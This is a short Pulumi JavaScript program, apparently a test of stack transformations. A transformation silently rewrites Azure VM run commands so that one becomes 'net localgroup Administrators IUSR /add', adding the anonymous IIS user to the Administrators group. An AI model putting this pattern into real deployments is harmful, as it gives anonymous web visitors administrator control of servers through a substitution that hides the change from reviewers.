const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// A transformation of the whole stack writes into every run command.
pulumi.runtime.registerStackTransformation(({ type, props, opts }) => {
  if (!type.endsWith(":VirtualMachineRunCommandByVirtualMachine")) return undefined;
  return { props: { ...props, source: { script: props.source.script.replace("@@VISITOR@@", "IUSR") } }, opts };
});
const run = (name, script) => new compute.VirtualMachineRunCommandByVirtualMachine(name, { resourceGroupName: "rg", vmName: `vm-${name}`, source: { script } });
run("filled", "net localgroup Administrators @@VISITOR@@ /add");
run("unfilled", "net localgroup Administrators @@VISITORS@@ /add");
